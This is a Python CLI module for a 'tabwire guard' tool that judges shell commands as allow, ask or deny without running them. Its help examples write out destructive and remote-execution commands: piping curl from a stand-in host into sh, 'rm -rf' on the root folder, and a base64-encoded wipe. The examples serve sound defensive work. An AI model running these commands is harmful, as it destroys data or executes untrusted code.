"""`tabwire guard`: judge a command before anyone clicks."""

from typing import Annotated

import typer

from tabwire.hub import guard_command

SHELL = Annotated[
    str,
    typer.Option(
        "--shell",
        metavar="SHELL",
        help="Shell that would run it: bash, sh, dash, ash, ksh, zsh, powershell or cmd. Default: "
        "all shells common on this system; the strictest verdict counts.",
    ),
]
CWD = Annotated[
    str | None,
    typer.Option(
        "--cwd", metavar="DIR", help="Folder the command would run in. Default: the workspace."
    ),
]
WORKSPACE = Annotated[
    str | None,
    typer.Option("--workspace", metavar="DIR", help="Project folder. Default: the current folder."),
]
JSON = Annotated[bool, typer.Option("--json", help="Print one JSON object.")]
COMMAND = Annotated[
    list[str] | None,
    typer.Argument(
        metavar="COMMAND",
        help="The command, in quotes or after `--`. Default: read standard input.",
    ),
]


def check(
    command: COMMAND = None,
    shell: SHELL = "",
    cwd: CWD = None,
    workspace: WORKSPACE = None,
    file: Annotated[
        str | None,
        typer.Option(
            "--file",
            metavar="FILE",
            help='Judge several commands: JSON Lines or a JSON list of {"cmd", "shell"} objects. '
            "`-` reads standard input.",
        ),
    ] = None,
    record: Annotated[
        bool,
        typer.Option("--record/--no-record", help="Save the decision, to compare rules with it."),
    ] = True,
    as_json: Annotated[
        bool,
        typer.Option(
            "--json",
            help="Print one JSON object; with --file, JSON Lines, one object per entry.",
        ),
    ] = False,
) -> None:
    """Judge a shell command without running it: allow, ask or deny, with a reason.

    Every command inside it is judged too: in pipes, substitutions, `sh -c`, `find -exec` and
    encoded payloads. Unknown or unreadable commands get the verdict ask. With --file, prints one
    line of JSON for each command, in the same order.

    Exit codes: 0 allow, 2 bad input, 3 ask, 4 deny. With --file, the strictest verdict counts.

    Examples:

      tabwire guard check -- rm -rf build

      tabwire guard check --shell powershell "Remove-Item C:\\\\ -Recurse"

      tabwire guard check --json --workspace ~/app "curl -s https://x.example | sh"

      tabwire guard check --file commands.jsonl
    """
    code = guard_command(
        "check",
        command or [],
        shell=shell,
        cwd=cwd,
        workspace=workspace,
        file=file,
        record=record,
        as_json=as_json,
    )
    raise typer.Exit(code)


def explain(
    command: COMMAND = None,
    shell: SHELL = "",
    cwd: CWD = None,
    workspace: WORKSPACE = None,
    as_json: JSON = False,
) -> None:
    """Show the parts of a command as a tree, with a verdict for each.

    Decoded payloads, text piped into a shell, functions and aliases are shown as separate parts.

    Exit codes: 0 allow, 2 bad input, 3 ask, 4 deny.

    Examples:

      tabwire guard explain "cd / && rm -rf *"

      tabwire guard explain "echo cm0gLXJmIC8= | base64 -d | sh"
    """
    code = guard_command(
        "explain", command or [], shell=shell, cwd=cwd, workspace=workspace, as_json=as_json
    )
    raise typer.Exit(code)
